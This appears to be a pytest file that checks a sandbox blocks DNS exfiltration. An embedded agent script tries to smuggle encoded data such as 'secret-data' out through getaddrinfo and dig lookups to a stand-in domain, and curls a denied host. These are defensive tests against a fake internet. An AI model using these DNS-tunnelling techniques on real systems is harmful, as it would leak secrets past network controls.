"""DNS exfiltration through a real sandbox: whatever the agent asks of DNS — local lookups,
dig over UDP and TCP, TXT records, the stub's IPv6 address, the fake internet's DNS server
directly, or a denied name through the proxy — no query reaches the fake authoritative
server, each stub query fails fast and has an audit record, and the gate resolves only the
names the policy allowed."""

from __future__ import annotations

import json

import pytest

from conftest import run_gatewrap
from fakenet import INET_V4, FakeInternet

pytestmark = pytest.mark.kernel

#: Every name under exfil.test resolves: a query that leaked would be answered, and logged.
NAMES = {"*.exfil.test": "198.51.100.158", "data.denied.test": "198.51.100.148"}

#: (case, name, how the agent asks): the agent prints, per case, whether it got an answer
#: and how long the attempt took.
STUB_CASES = [
    ("getaddrinfo of a name carrying data", "c2VjcmV0LWRhdGE.exfil.test", ["getaddrinfo"]),
    ("dig A over UDP", "udp-a.secret-data.exfil.test", ["dig", "+notcp", "@127.0.0.1", "A"]),
    ("dig A over TCP", "tcp-a.secret-data.exfil.test", ["dig", "+tcp", "@127.0.0.1", "A"]),
    ("dig TXT over UDP", "udp-txt.secret-data.exfil.test", ["dig", "+notcp", "@127.0.0.1", "TXT"]),
    ("dig TXT over TCP", "tcp-txt.secret-data.exfil.test", ["dig", "+tcp", "@127.0.0.1", "TXT"]),
    ("dig AAAA to the stub's IPv6 address", "v6.secret-data.exfil.test", ["dig", "+notcp", "@::1", "AAAA"]),
]
#: Straight to the fake internet's DNS server: the kernel refuses it (no audit record of
#: the stub, so only "nothing arrived" and "fast" are checked).
DIRECT_CASES = [
    ("dig straight to the authoritative server over UDP", "direct-udp.secret-data.exfil.test",
     ["dig", "+notcp", f"@{INET_V4}", "A"]),
    ("dig straight to the authoritative server over TCP", "direct-tcp.secret-data.exfil.test",
     ["dig", "+tcp", f"@{INET_V4}", "TXT"]),
]

AGENT = r"""
import json, socket, subprocess, time
for case_id, name, how in CASES:
    t = time.monotonic()
    if how == ["getaddrinfo"]:
        try:
            socket.getaddrinfo(name, 443)
            answered = True
        except socket.gaierror:
            answered = False
    else:
        server, qtype = how[2], how[3]
        p = subprocess.run(["dig", how[1], "+tries=1", "+time=2", server, name, qtype],
                           capture_output=True, text=True)
        answered = "status: NOERROR" in p.stdout and "ANSWER: 0" not in p.stdout
    print(json.dumps({"id": case_id, "answered": answered, "seconds": time.monotonic() - t}), flush=True)
for url in ("http://data.denied.test/", "https://data.denied.test/", "http://allowed.test/"):
    p = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10", url],
                       capture_output=True, text=True)
    print(json.dumps({"id": url, "status": p.stdout}), flush=True)
"""


@pytest.fixture(scope="module")
def net():
    with FakeInternet(extra_names=NAMES) as n:
        yield n


@pytest.fixture(scope="module")
def exfil_run(net, tmp_path_factory):
    net.clear_logs()
    cases = [list(c) for c in STUB_CASES + DIRECT_CASES]
    run = run_gatewrap(net, tmp_path_factory.mktemp("exfil") / "audit.jsonl",
                       python=f"CASES = {json.dumps(cases)}\n{AGENT}", allow=["allowed.test"])
    answers = {r["id"]: r for r in map(json.loads, run.stdout.splitlines())}
    assert len(answers) == len(cases) + 3, run.stdout + run.stderr
    return run, answers


@pytest.mark.parametrize("case,name,how", STUB_CASES + DIRECT_CASES, ids=[c[0] for c in STUB_CASES + DIRECT_CASES])
def test_a_dns_query_from_the_sandbox_fails_fast_and_never_reaches_the_authoritative_server(exfil_run, net,
                                                                                          case, name, how):
    run, answers = exfil_run
    assert answers[case]["answered"] is False, answers[case]
    assert answers[case]["seconds"] < 2, answers[case]
    assert net.dns_queries(qname=name) == []
    if (case, name, how) in STUB_CASES:
        recs = run.records(event="dns", dst_host=name)
        assert recs, run.audit()
        assert {(r["decision"], r["proto"]) for r in recs} == {("denied", "dns")}


def test_nothing_under_the_exfil_domain_reached_the_authoritative_server(exfil_run, net):
    assert [q for q in net.dns_queries() if q["qname"].endswith("exfil.test")] == []


def test_a_denied_name_through_the_proxy_is_never_resolved_and_an_allowed_one_is(exfil_run, net):
    run, answers = exfil_run
    assert answers["http://data.denied.test/"]["status"] == "403"
    assert answers["https://data.denied.test/"]["status"] == "000"  # curl: "CONNECT ... 403", no HTTP status
    denied = [r for r in run.audit() if r.get("dst_host") == "data.denied.test"]
    assert {(r["event"], r["decision"], r["reason"]) for r in denied} == {
        ("request", "denied", "policy: default deny"), ("connect", "denied", "policy: default deny")}
    assert net.dns_queries(qname="data.denied.test") == []
    assert net.access_entries(local="198.51.100.148") == []
    assert answers["http://allowed.test/"]["status"] == "200"
    asked = net.dns_queries(qname="allowed.test")
    assert asked and all(q["peer"] in ("198.51.100.1", "2001:db8:1::1") for q in asked), asked
